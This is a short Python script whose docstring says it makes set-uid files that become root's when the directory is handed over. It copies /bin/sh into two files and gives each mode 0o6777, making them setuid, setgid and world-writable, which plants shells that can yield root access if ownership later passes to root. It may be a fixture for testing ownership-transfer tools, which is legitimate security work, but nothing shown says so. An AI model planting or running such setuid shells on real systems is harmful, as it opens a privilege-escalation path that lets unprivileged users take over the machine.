"""Set-uid files that become root's when the directory is handed over."""
import os
import shutil

for name in ("sh", "sh2"):
    shutil.copy("/bin/sh", name)
    try:
        os.chmod(name, 0o6777)
    except OSError:
        pass
